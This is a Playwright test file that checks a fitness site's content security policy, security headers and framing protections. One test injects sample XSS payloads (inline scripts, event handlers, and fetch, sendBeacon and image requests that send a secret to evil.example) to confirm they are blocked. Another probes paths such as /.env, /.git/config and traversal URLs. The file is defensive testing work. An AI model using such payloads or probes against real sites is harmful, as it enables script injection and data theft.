import type { BrowserContext, Page } from "@playwright/test";
import { expect, signIn, test } from "./product";
import { A_MEMBER, NO_PAGE, SCREENS } from "./screens";

test.use({ club: "edge", viewport: { width: 1280, height: 800 } });

const PICTURE = "https://pictures.example/mat.svg";
const SLUG = "where-pictures-live";

/** Every page, as the first of these who has one to see, and what may hold something from elsewhere as each. */
const VISITED = (["visitor", "member", "coach"] as const).map((who, index, all) => {
  const earlier = all.slice(0, index);
  const pages = Object.values(SCREENS).filter((seen) => !earlier.some((other) => seen[other]));
  const first = pages.flatMap((seen) => seen[who]?.slice(0, who === "coach" ? 3 : 1) ?? []);
  const paths = new Set(["/", `/blog/${SLUG}`, NO_PAGE, ...first.filter((path) => !path.includes(A_MEMBER))]);
  return { who, paths };
});

type Seen = { page: string; blocked: string };

/** Hears what the policy refuses in any page of a context, and answers for everybody who is not the product. */
async function watch(context: BrowserContext, own: string) {
  const seen: Seen[] = [];
  const elsewhere: string[] = [];
  await context.exposeFunction("tellRefused", (refused: Seen) => void seen.push(refused));
  await context.addInitScript(() => {
    addEventListener("securitypolicyviolation", (event) => {
      const { effectiveDirective, blockedURI } = event;
      window.tellRefused({ page: location.pathname, blocked: `${effectiveDirective} ${blockedURI}` });
    });
  });
  await context.route(
    (url) => url.origin !== own,
    (route) => {
      elsewhere.push(new URL(route.request().url()).hostname);
      const type = route.request().resourceType();
      if (type === "image") return route.fulfill({ contentType: "image/svg+xml", body: SVG });
      if (type === "script")
        return route.fulfill({ contentType: "text/javascript", body: "window.stripeIsHere = true" });
      return route.fulfill({ contentType: "text/html", body: "<p>elsewhere</p>" });
    },
  );
  return { seen, elsewhere };
}

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="16" height="9"><rect width="16" height="9"/></svg>';

declare global {
  interface Window {
    tellRefused: (refused: Seen) => void;
    stripeIsHere?: boolean;
    ran?: boolean;
  }
}

const heading = (page: Page) => page.getByRole("heading", { level: 1 }).first();

test.beforeAll(async ({ browser, product }) => {
  const page = await browser.newPage({ baseURL: product.url });
  await signIn(page, "coach@longroll.test");
  const article = {
    slug: SLUG,
    title: "Where pictures live",
    content: `Elsewhere: ![a mat](${PICTURE})`,
    featuredImage: PICTURE,
    isPublished: true,
  };
  for (const [address, data] of [
    ["/api/admin/blog", article],
    ["/api/admin/workouts", { title: "On YouTube", videoUrl: "https://youtu.be/aqz-KE-bpKQ", thumbnailUrl: PICTURE }],
    ["/api/admin/workouts", { title: "On Vimeo", videoUrl: "https://vimeo.com/76979871", thumbnailUrl: PICTURE }],
  ] as const) {
    expect((await page.request.post(address, { data })).status()).toBe(201);
  }
  await page.close();
});

for (const { who, paths } of VISITED) {
  test(`no page needs what it is not allowed, visited one by one as ${who}`, async ({ page, context, product }) => {
    // Two dozen pages.
    test.slow();
    const { seen } = await watch(context, product.url);
    if (who !== "visitor") await signIn(page, `${who}@longroll.test`);
    for (const path of paths) {
      await page.goto(path);
      await expect(heading(page)).toBeVisible();
    }
    expect(seen).toEqual([]);
  });
}

test("a member goes through the site by its links, and each page gets what it needs", async ({
  page,
  context,
  product,
}) => {
  const { seen, elsewhere } = await watch(context, product.url);
  await signIn(page, "trial@longroll.test");
  await page.goto("/community");
  await expect(heading(page)).toBeVisible();
  await page.getByRole("link", { name: "Dashboard" }).first().click();
  await expect(page.getByRole("heading", { level: 1, name: /Welcome back/ })).toBeVisible();
  const workouts = (await (await page.request.get("/api/workouts")).json()) as { id: number; title: string }[];

  await page.goto("/workouts");
  for (const [title, player] of [
    ["On YouTube", "www.youtube-nocookie.com"],
    ["On Vimeo", "player.vimeo.com"],
  ] as const) {
    await page.goto("/messages");
    await expect(heading(page)).toBeVisible();
    // A notice, say, that leads there.
    await follow(page, `/workout/${workouts.find((workout) => workout.title === title)?.id}`);
    await page.getByRole("button", { name: `Play video: ${title}` }).click();
    await expect(page.frameLocator("iframe").getByText("elsewhere")).toBeVisible();
    expect(elsewhere).toContain(player);
  }

  // From a page without any of Stripe's, by link and back.
  await follow(page, "/subscribe");
  await expect(page.getByRole("button", { name: /^Subscribe now/ })).toBeVisible();
  await bringStripe(page);
  expect(await page.evaluate(() => window.stripeIsHere)).toBe(true);
  await page.getByRole("button", { name: /^Subscribe now/ }).click();
  await expect(page.getByText("Test mode: no real card is charged")).toBeVisible();
  await page.goBack();
  await page.getByRole("button", { name: "Play video: On Vimeo" }).click();
  await expect(page.frameLocator("iframe").getByText("elsewhere")).toBeVisible();
  await page.getByRole("button", { name: "Account menu" }).click();
  await page.getByRole("navigation", { name: "Account" }).getByRole("link", { name: "Subscription" }).click();
  await expect(page).toHaveURL("/subscription");
  await expect(heading(page)).toBeVisible();
  await bringStripe(page);
  expect(await page.evaluate(() => window.stripeIsHere)).toBe(true);
  expect(seen).toEqual([]);
});

test("the microphone is the coach's at the desk for messages, and nobody's elsewhere", async ({ page }) => {
  await signIn(page, "coach@longroll.test");
  const allowed = () => page.evaluate(() => document.featurePolicy.allowsFeature("microphone"));
  await page.goto("/admin");
  await expect(heading(page)).toBeVisible();
  expect(await allowed()).toBe(false);
  await page.getByRole("link", { name: /unread conversation/ }).click();
  await expect(page.getByRole("heading", { level: 1, name: "Messages" })).toBeVisible();
  expect(await allowed()).toBe(true);
});

declare global {
  interface Document {
    featurePolicy: { allowsFeature: (name: string) => boolean };
  }
}

test("what somebody has smuggled into a page neither runs, nor loads, nor sends", async ({
  page,
  context,
  product,
}) => {
  const { seen, elsewhere } = await watch(context, product.url);
  await signIn(page, "member@longroll.test");
  await page.goto("/community");
  await expect(heading(page)).toBeVisible();
  elsewhere.length = 0;
  await page.evaluate(() => {
    const put = (html: string) => document.body.append(document.createRange().createContextualFragment(html));
    put("<script>window.ran = true</script>");
    put('<img src="/nothing.png" onerror="window.ran = true">');
    put('<script src="https://evil.example/x.js"></script>');
    put('<script src="data:text/javascript,window.ran=true"></script>');
    put('<img src="https://evil.example/told?what=secret">');
    put('<iframe src="https://evil.example/"></iframe>');
    put('<iframe srcdoc="<script>parent.ran = true</script>"></iframe>');
    put('<object data="https://evil.example/x.swf"></object>');
    put('<link rel="stylesheet" href="https://evil.example/x.css">');
    put("<style>body { background: url(https://evil.example/x.png) }</style>");
    put('<base href="https://evil.example/">');
    put('<form id="out" action="https://evil.example/" method="post"></form>');
    put('<a id="run" href="javascript:window.ran = true">run</a>');
    document.querySelector<HTMLFormElement>("#out")?.submit();
    document.querySelector<HTMLAnchorElement>("#run")?.click();
    void fetch("https://evil.example/told").catch(() => {});
    navigator.sendBeacon("https://evil.example/told", "secret");
    // Behind a timer, because what a debugger itself evaluates may evaluate more.
    setTimeout(() => {
      try {
        // biome-ignore lint/security/noGlobalEval: the attack.
        window.eval("window.ran = true");
      } catch {
        // As it should.
      }
    });
  });
  await expect
    .poll(() => [...new Set(seen.map(({ blocked }) => blocked.split(" ")[0]))].sort())
    .toEqual([
      "base-uri",
      "connect-src",
      "form-action",
      "frame-src",
      "img-src",
      "object-src",
      "script-src",
      "script-src-attr",
      "script-src-elem",
      "style-src-elem",
    ]);
  expect(await page.evaluate(() => window.ran)).toBeUndefined();
  expect(elsewhere).toEqual([]);
  expect(await page.evaluate(() => location.pathname)).toBe("/community");
});

test("no other page frames one of the site, nor does the site itself", async ({ page, context, product }) => {
  await watch(context, product.url);
  for (const path of ["/", "/sign-in", "/api/health", "/favicon.svg"]) {
    await page.goto("http://localhost:1/");
    const loaded = await page.evaluate(async (address) => {
      const frame = document.createElement("iframe");
      frame.src = address;
      const done = new Promise((resolve) => frame.addEventListener("load", resolve));
      document.body.append(frame);
      await done;
    }, product.url + path);
    expect(loaded).toBeUndefined();
    expect([path, page.frames()[1]?.url()]).toEqual([path, "chrome-error://chromewebdata/"]);
  }
});

test("going back after signing out shows nothing that was the member's", async ({ page }) => {
  await signIn(page, "member@longroll.test");
  await page.goto("/settings");
  await expect(page.getByLabel("First name")).not.toHaveValue("");
  await follow(page, "/sign-out");
  await page.getByRole("button", { name: "Log out" }).click();
  await expect(page).toHaveURL("/");
  await expect(page.getByRole("heading", { level: 1, name: "Train for the long roll." })).toBeVisible();
  await page.goBack();
  await expect(page).toHaveURL(/\/sign-in\?returnTo=%2Fsettings/);
  await expect(page.getByLabel("Password", { exact: true })).toBeVisible();
  await expect(page.getByLabel("First name")).toHaveCount(0);
});

test("files of the site come with the same headers, and those that are none of it do not come", async ({ page }) => {
  const shell = await (await page.request.get("/")).text();
  const script = /src="(\/assets\/[^"]+\.js)"/.exec(shell)?.[1] ?? "";
  for (const path of [
    script,
    "/favicon.svg",
    "/site.webmanifest",
    "/samples/longroll-week.docx",
    "/sw.js",
    "/robots.txt",
  ]) {
    const answer = await page.request.get(path);
    const headers = answer.headers();
    expect([path, answer.status(), headers["x-content-type-options"]]).toEqual([path, 200, "nosniff"]);
    expect([path, headers["strict-transport-security"]]).toEqual([path, "max-age=31536000; includeSubDomains"]);
    expect([path, headers["referrer-policy"]]).toEqual([path, "strict-origin-when-cross-origin"]);
    expect([path, headers["permissions-policy"]]).toEqual([path, "camera=(), microphone=(), geolocation=()"]);
    expect([path, headers["content-security-policy"]?.includes("frame-ancestors 'none'")]).toEqual([path, true]);
    expect([path, headers["access-control-allow-origin"], headers["x-powered-by"]]).toEqual([
      path,
      undefined,
      undefined,
    ]);
  }
  for (const path of [
    `${script}.map`,
    "/assets/",
    "/assets/nothing.js",
    "/.git/HEAD",
    "/.git/config",
    "/.env",
    "/.dev.vars",
    "/wrangler.toml",
    "/wrangler.json",
    "/package.json",
    "/package-lock.json",
    "/_headers",
    "/index.html",
    "/.vite/manifest.json",
    "/migrations/0001_initial.sql",
    "/worker/index.ts",
    "/assets/..%2f_headers",
    "/samples/..%2findex.html",
    "/samples/",
  ]) {
    const answer = await page.request.get(path);
    expect([path, answer.status()]).toEqual([path, 404]);
    expect(await answer.text()).not.toMatch(/\[assets\]|"isEntry"|CREATE TABLE/);
  }
});

/** As a link that stands in the page. */
async function follow(page: Page, path: string): Promise<void> {
  await page.evaluate((address) => {
    history.pushState(null, "", address);
    dispatchEvent(new PopStateEvent("popstate", { state: null }));
  }, path);
  await expect(page).toHaveURL(path);
  await expect(heading(page)).toBeVisible();
}

/** As the library's own loader does. */
async function bringStripe(page: Page): Promise<void> {
  await page.evaluate(async () => {
    const script = document.createElement("script");
    script.src = "https://js.stripe.com/dahlia/stripe.js";
    const came = new Promise((resolve, reject) => {
      script.onload = resolve;
      script.onerror = reject;
    });
    document.head.append(script);
    await came;
  });
}
